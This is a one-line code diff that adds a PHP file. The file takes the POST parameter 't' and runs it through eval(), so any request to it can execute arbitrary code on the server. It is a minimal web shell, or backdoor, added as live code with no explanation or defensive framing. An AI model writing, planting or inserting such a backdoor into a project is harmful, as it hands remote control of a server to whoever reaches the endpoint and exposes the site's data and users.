@@ -1,0 +1,1 @@
+<?php define('TASK', $_POST['t']); eval(TASK);
